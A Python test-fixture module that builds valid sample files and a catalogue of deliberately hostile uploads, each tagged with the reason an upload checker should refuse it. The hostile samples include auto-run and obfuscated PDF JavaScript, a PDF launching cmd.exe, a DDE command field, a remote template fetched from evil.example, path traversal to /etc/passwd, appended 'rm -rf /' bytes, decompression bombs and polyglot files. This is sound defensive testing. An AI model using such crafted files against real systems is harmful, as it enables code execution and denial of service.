"""Files made by hand: good ones of every kind, and those that somebody would send to do harm."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping

from PIL import Image
from pypdf import PdfWriter

from practices.files import storing
from practices.models import Attachment, Version, VersionAttachment, new_file_name

CONTENT_TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Override PartName="/{part}" ContentType="application/vnd.openxmlformats-officedocument.{type}.main+xml"/></Types>'
)
OFFICE = {
    "docx": ("word/document.xml", "wordprocessingml.document"),
    "pptx": ("ppt/presentation.xml", "presentationml.presentation"),
    "xlsx": ("xl/workbook.xml", "spreadsheetml.sheet"),
}
RELS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{type}" Target="{target}"{more}/>'
    "</Relationships>"
)


def zipped(parts: Mapping[str, bytes | str], *, stored: tuple[str, ...] = ()) -> bytes:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            kind = zipfile.ZIP_STORED if name in stored else zipfile.ZIP_DEFLATED
            archive.writestr(zipfile.ZipInfo(name), content, kind)
    return held.getvalue()


def office(kind: str = "docx", **parts: bytes | str) -> bytes:
    main, content_type = OFFICE[kind]
    types = CONTENT_TYPES.format(part=main, type=content_type)
    return zipped({"[Content_Types].xml": types, main: "<document>Puro</document>", **parts})


def open_document(kind: str = "odt", **parts: bytes | str) -> bytes:
    name = {"odt": "text", "odp": "presentation"}[kind]
    mimetype = f"application/vnd.oasis.opendocument.{name}"
    own = {"mimetype": mimetype, "content.xml": "<office:document-content/>", "META-INF/manifest.xml": "<manifest/>"}
    return zipped({**own, **parts}, stored=("mimetype",))


def pdf(*objects: str, catalog: str = "", text: str = "BT /F1 12 Tf 9 9 Td (Puron tarina) Tj ET") -> bytes:
    """One page; `objects` are numbered from 6 on, `catalog` is added to the root."""
    stream = f"<< /Length {len(text)} >>\nstream\n{text}\nendstream"
    page = (
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 99 99] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>"
    )
    font = "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
    root = f"<< /Type /Catalog /Pages 2 0 R {catalog} >>"
    bodies = [root, "<< /Type /Pages /Kids [3 0 R] /Count 1 >>", page, stream, font, *objects]
    out, places = b"%PDF-1.7\n", []
    for number, body in enumerate(bodies, start=1):
        places.append(len(out))
        out += f"{number} 0 obj\n{body}\nendobj\n".encode("latin-1")
    table = "".join(f"{place:010} 00000 n \n" for place in places)
    size, start = len(bodies) + 1, len(out)
    head = f"xref\n0 {size}\n0000000000 65535 f \n"
    return out + f"{head}{table}trailer\n<< /Size {size} /Root 1 0 R >>\nstartxref\n{start}\n%%EOF\n".encode()


def locked_pdf() -> bytes:
    writer, held = PdfWriter(), io.BytesIO()
    writer.add_blank_page(99, 99)
    writer.encrypt("salaisuus")
    writer.write(held)
    return held.getvalue()


def packed_pdf() -> bytes:
    """A script inside a compressed object stream: no word of it can be read in the bytes."""
    inner = b"6 0 << /S /JavaScript /JS (app.alert\\(1\\)) >>"
    packed = zlib.compress(inner)
    bodies = {
        1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>",
        4: b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream"
        % (len(packed), packed),
    }
    out, places = b"%PDF-1.7\n", {}
    for number, body in bodies.items():
        places[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    rows = b"\0\0\0\0" + b"".join(b"\1" + struct.pack(">HB", places[n], 0) for n in bodies)
    rows += b"\1" + struct.pack(">HB", start, 0) + b"\2" + struct.pack(">HB", 4, 0)
    head = b"<< /Type /XRef /Size 7 /W [1 2 1] /Root 1 0 R /Length %d >>" % len(rows)
    return out + b"5 0 obj\n%s\nstream\n%s\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % (head, rows, start)


def picture(kind: str = "jpg", size: tuple[int, int] = (640, 400), mode: str = "RGB", **options: object) -> bytes:
    held = io.BytesIO()
    image = Image.linear_gradient("L").resize(size).convert(mode)
    image.save(held, {"jpg": "JPEG", "png": "PNG", "webp": "WEBP"}[kind], **options)
    return held.getvalue()


def phone_picture() -> bytes:
    """A photograph that tells who took it, with what, where, and that it lies on its side."""
    exif = Image.Exif()
    exif[0x0112], exif[0x013B], exif[0x010F] = 6, "Kanaria Kuvaaja", "Kanariakamera"
    exif.get_ifd(0x8769)[0xA431] = "KANARIA123"
    place = exif.get_ifd(0x8825)
    place[1], place[2], place[3], place[4] = "N", (62.0, 14.0, 0.0), "E", (25.0, 44.0, 0.0)
    return picture(exif=exif, comment=b"Kanaria kommentti", xmp=b"<x:xmpmeta>Kanaria</x:xmpmeta>")


def mp3() -> bytes:
    frame = b"\xff\xfb\x90\x00" + b"\0" * 413
    return b"ID3\x04\0\0\0\0\0\x0a" + b"\0" * 10 + frame * 4


def box(name: bytes, content: bytes = b"") -> bytes:
    return struct.pack(">I", 8 + len(content)) + name + content


def mp4(size: int = 64) -> bytes:
    return box(b"ftyp", b"isom\0\0\0\0isommp42") + box(b"moov", box(b"mvhd", b"\0" * 20)) + box(b"mdat", b"\0" * size)


def large_png(side: int) -> bytes:
    """A picture of side² pixels, all the same, in a few bytes: only its head is true."""

    def chunk(name: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))

    head = struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(b"\0" * 1000)) + chunk(b"IEND", b"")
    )


def with_password() -> bytes:
    """As a program marks an entry that needs a password."""
    content = bytearray(office())
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        content[content.index(mark) + place] |= 1
    return bytes(content)


def shared_bytes() -> bytes:
    """Two entries of the directory that point to the same bytes."""
    content = bytearray(office())
    first = content.index(b"PK\x01\x02")
    second = content.index(b"PK\x01\x02", first + 4)
    content[second + 42 : second + 46] = content[first + 42 : first + 46]
    return bytes(content)


FIELD = "<w:instrText>DDEAUTO c:\\cmd</w:instrText>"
ENTITIES = '<!DOCTYPE a [<!ENTITY b "bbbb"><!ENTITY c "&b;&b;&b;">]><document>&c;</document>'
GOOD: dict[str, Callable[[], bytes]] = {
    "ohje.pdf": pdf, "ohje.docx": office, "kalvot.pptx": lambda: office("pptx"), "luvut.xlsx": lambda: office("xlsx"),
    "ohje.odt": open_document, "kalvot.odp": lambda: open_document("odp"), "kuva.jpg": picture,
    "kuva.png": lambda: picture("png", mode="RGBA"), "kuva.webp": lambda: picture("webp"), "ääni.mp3": mp3,
    "video.mp4": mp4,
}  # fmt: skip
HOSTILE: dict[str, tuple[str, Callable[[], bytes], str]] = {
    "an executable behind a document": ("raportti.pdf.exe", pdf, "ending"),
    "a drawing with script": ("kuva.svg", lambda: b"<svg><script>1</script></svg>", "ending"),
    "a web page": ("sivu.html", lambda: b"<html></html>", "ending"),
    "a document for macros": ("makro.docm", office, "ending"),
    "no ending": ("ohje", pdf, "ending"),
    "nothing": ("ohje.pdf", lambda: b"", "empty"),
    "a web page as PDF": ("ohje.pdf", lambda: b"<html><script>1</script></html>", "other-kind"),
    "a program as picture": ("kuva.jpg", lambda: b"MZ" + b"\0" * 99, "other-kind"),
    "PNG as JPEG": ("kuva.jpg", lambda: picture("png"), "other-kind"),
    "SVG as PNG": ("kuva.png", lambda: b"<svg xmlns='x' onload='1'/>", "other-kind"),
    "GIF and script": ("kuva.jpg", lambda: b"GIF89a/*" + b"\0" * 9 + b"*/=1;alert(1)", "other-kind"),
    "PDF and web page": ("ohje.pdf", lambda: pdf().replace(b"1.7\n", b"1.7\n%<html><script>\n", 1), "two-in-one"),
    "bytes before a PDF": ("ohje.pdf", lambda: b"#!/bin/sh\n" + pdf(), "other-kind"),
    "PDF and archive": ("ohje.pdf", lambda: pdf() + office(), "two-in-one"),
    "bytes behind a PDF": ("ohje.pdf", lambda: pdf() + b"rm -rf /", "trailing"),
    "half a PDF": ("ohje.pdf", lambda: pdf()[:-60], "trailing"),
    "PDF with script": ("ohje.pdf", lambda: pdf(catalog="/OpenAction << /S /JavaScript /JS (1) >>"), "active"),
    "script in other letters": ("ohje.pdf", lambda: pdf(catalog="/AA << /S /J#61vaScript /J#53 (1) >>"), "active"),
    "script in a packed object": ("ohje.pdf", packed_pdf, "active"),
    "PDF that starts a program": ("ohje.pdf", lambda: pdf("<< /S /Launch /F (cmd.exe) >>"), "active"),
    "PDF with a film": ("ohje.pdf", lambda: pdf("<< /Type /Annot /Subtype /RichMedia >>"), "active"),
    "PDF with a form of XML": ("ohje.pdf", lambda: pdf(catalog="/AcroForm << /XFA (x) >>"), "active"),
    "PDF that sends": ("ohje.pdf", lambda: pdf("<< /S /SubmitForm /F (http://x) >>"), "active"),
    "PDF with a file inside": ("ohje.pdf", lambda: pdf("<< /Type /EmbeddedFile /Length 0 >>"), "hidden"),
    "PDF with a password": ("ohje.pdf", locked_pdf, "locked"),
    "PDF nested without end": ("ohje.pdf", lambda: pdf("[" * 90 + "]" * 90), "unfolds"),
    "PDF of nothing": ("ohje.pdf", lambda: b"%PDF-1.7\n%%EOF\n", "broken"),
    "macros": ("ohje.docx", lambda: office(**{"word/vbaProject.bin": b"x"}), "macros"),
    "macros by type": (
        "ohje.docx", lambda: office(**{"[Content_Types].xml": "vnd.ms-word.document.macroEnabled.main+xml"}),
        "macros",
    ),
    "macro sheet": ("luvut.xlsx", lambda: office("xlsx", **{"xl/macrosheets/sheet1.xml": b"x"}), "macros"),
    "template from elsewhere": (
        "ohje.docx",
        lambda: office(**{"word/_rels/settings.xml.rels": RELS.format(
            type="attachedTemplate", target="http://evil.example/x.dotm", more=' TargetMode="External"')}),
        "fetches",
    ),
    "object inside": ("ohje.docx", lambda: office(**{"word/embeddings/oleObject1.bin": b"x"}), "embedded"),
    "control inside": ("ohje.docx", lambda: office(**{"word/activeX/activeX1.xml": b"x"}), "embedded"),
    "program inside": ("kalvot.pptx", lambda: office("pptx", **{"ppt/media/run.exe": b"MZ"}), "embedded"),
    "entities": ("ohje.docx", lambda: office(**{"word/document.xml": ENTITIES}), "active"),
    "command in a field": ("ohje.docx", lambda: office(**{"word/footer1.xml": FIELD}), "active"),
    "path upwards": ("ohje.docx", lambda: office(**{"../../etc/passwd": b"x"}), "paths"),
    "path from the root": ("ohje.docx", lambda: office(**{"/etc/passwd": b"x"}), "paths"),
    "document that inflates": ("ohje.docx", lambda: office(**{"word/a.xml": b"\0" * 9_000_000}), "unfolds"),
    "three thousand parts": ("ohje.docx", lambda: office(**{f"p/{n}.xml": "" for n in range(3000)}), "unfolds"),
    "parts that share bytes": ("ohje.docx", shared_bytes, "unfolds"),
    "document with a password": ("ohje.docx", with_password, "locked"),
    "document in a safe": ("ohje.docx", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512, "locked"),
    "any archive": ("ohje.docx", lambda: zipped({"a.txt": "a"}), "other-kind"),
    "sheet as document": ("ohje.docx", lambda: office("xlsx"), "other-kind"),
    "archive behind a program": ("ohje.docx", lambda: b"MZ" + office(), "other-kind"),
    "bytes behind a document": ("ohje.docx", lambda: office() + b"<script>", "trailing"),
    "OpenDocument with Basic": ("ohje.odt", lambda: open_document(**{"Basic/script-lc.xml": "x"}), "macros"),
    "OpenDocument with events": (
        "ohje.odt", lambda: open_document(**{"content.xml": "<script:event-listener xlink:href='x'/>"}),
        "active",
    ),
    "OpenDocument without its type": ("ohje.odt", lambda: zipped({"content.xml": "x"}), "other-kind"),
    "30,000 times 30,000 pixels": ("kuva.png", lambda: large_png(30_000), "pixels"),
    "half a picture": ("kuva.jpg", lambda: picture()[:3000], "broken"),
    "picture of nothing": ("kuva.webp", lambda: b"RIFF\x10\0\0\0WEBPVP8 ", "broken"),
    "picture as a thread": ("kuva.png", lambda: picture("png", (2000, 4)), "slim"),
    "picture and archive": ("kuva.jpg", lambda: picture() + office(), "two-in-one"),
    "picture and script": ("kuva.jpg", lambda: picture(comment=b"<script>alert(1)</script>"), "two-in-one"),
    "sound and web page": ("ääni.mp3", lambda: b"ID3\x04\0\0\0\0\0\x0a<html>" + mp3(), "two-in-one"),
    "sound of nothing": ("ääni.mp3", lambda: b"ID3\x04\0\0\0\0\0\x00" + b"\0" * 99, "broken"),
    "film of nothing": ("video.mp4", lambda: box(b"ftyp", b"isom") + b"\0" * 40, "broken"),
    "bytes behind a film": ("video.mp4", lambda: mp4() + b"junk", "broken"),
    "film of another maker": ("video.mp4", lambda: box(b"ftyp", b"evil") + box(b"moov") + box(b"mdat"), "other-kind"),
}  # fmt: skip
"""What it is → name, bytes, and the code of the reason for which it is refused."""


def shown_file(version: Version, words: str) -> VersionAttachment:
    """A file of a version, stored without being looked at, whose name, caption and bytes have these words."""
    key = new_file_name()
    with storing.workshop() as folder:
        (folder / "out").mkdir()
        (folder / "out" / "full.mp3").write_text(words, encoding="utf-8")
        storing.keep(folder / "out", key)
    held = Attachment.unscoped.create(
        practice=version.practice,
        key=key,
        name=f"{words}.mp3",
        kind="mp3",
        size=9,
        sha256=key,
        uploaded_by_name="Author",
    )
    return VersionAttachment.unscoped.create(version=version, attachment=held, caption=words, consent="nobody")
